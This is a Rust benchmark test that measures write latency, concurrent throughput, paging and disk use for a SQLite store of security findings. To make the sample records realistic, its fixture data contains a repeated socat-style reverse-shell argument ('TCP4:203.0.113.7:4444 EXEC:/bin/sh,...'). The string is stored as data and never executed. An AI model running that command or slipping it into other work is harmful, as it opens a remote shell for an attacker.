//! How fast it is. Measures, asserts nothing about time: `cargo test --release -p store-sqlite --test pace -- --ignored
//! --nocapture`.

use std::path::PathBuf;
use std::sync::Arc;
use std::time::{Duration, Instant};

use finding::{FindingResource, Process, Timestamp};
use store::contract::{everything, example, name};
use store::{FindingStore, PageSize};
use store_sqlite::SqliteStore;

/// About 3 KB of JSON, as a real finding has.
fn realistic(n: i64) -> FindingResource {
    let mut item = example(n);
    let argument = "-d -d TCP4:203.0.113.7:4444 EXEC:/bin/sh,pty,stderr,setsid ".repeat(10);
    let process = Process { args: vec![argument; 4], ..Process::default() };
    item.finding.processes = vec![process];
    item
}

fn spread(mut times: Vec<Duration>) -> String {
    times.sort();
    let at = |percent: usize| times[(times.len() - 1) * percent / 100];
    format!("median {:?}, 95 % {:?}, worst {:?}", at(50), at(95), at(100))
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "measures; run it by hand"]
async fn pace() {
    // A tmpfs would hide the cost of fsync.
    let base = std::env::var_os("VEDETTE_PACE_FOLDER").map_or_else(std::env::temp_dir, PathBuf::from);
    let folder = tempfile::tempdir_in(base).unwrap();
    let store = Arc::new(SqliteStore::open(folder.path()).await.unwrap());
    let now = Timestamp::from_nanos(1);

    let mut times = Vec::new();
    let mut visible = Vec::new();
    for n in 0..500 {
        let item = realistic(n);
        let start = Instant::now();
        store.upsert(&item, 1, now).await.unwrap();
        times.push(start.elapsed());
        let start = Instant::now();
        assert!(store.get(&name(n)).await.unwrap().is_some());
        visible.push(start.elapsed());
    }
    println!("one writer, each commit alone: {}", spread(times));
    println!("get right after the acknowledgement: {}", spread(visible));

    let total = 20_000;
    let start = Instant::now();
    let mut writers = tokio::task::JoinSet::new();
    for worker in 0..256_i64 {
        let store = store.clone();
        writers.spawn(async move {
            for n in (1000 + worker..1000 + total).step_by(256) {
                store.upsert(&realistic(n), 1, Timestamp::from_nanos(n)).await.unwrap();
            }
        });
    }
    writers.join_all().await;
    let seconds = start.elapsed().as_secs_f64();
    println!("256 writers, group commit: {:.0} inserts/s", total as f64 / seconds);

    let mut times = Vec::new();
    let mut query = everything();
    query.page_size = PageSize::new(100).unwrap();
    for _ in 0..200 {
        let start = Instant::now();
        let page = store.list(query.clone()).await.unwrap();
        times.push(start.elapsed());
        query.page_token = page.next_page_token;
    }
    println!("page of 100 of {} findings, walking: {}", total + 500, spread(times));
    let mut rare = example(0);
    rare.finding.name = "projects/rare/sources/vedette/findings/a".into();
    store.upsert(&rare, 1, now).await.unwrap();
    let start = Instant::now();
    let page = store.list(store::ListQuery::new("projects/rare/sources/-".parse().unwrap())).await.unwrap();
    assert_eq!(page.results.len(), 1);
    println!("the one finding of another project, oldest of all: {:?}", start.elapsed());
    let size = std::fs::metadata(folder.path().join("findings.db")).unwrap().len();
    println!("bytes on disk per finding: {}", size / (total as u64 + 500));
}
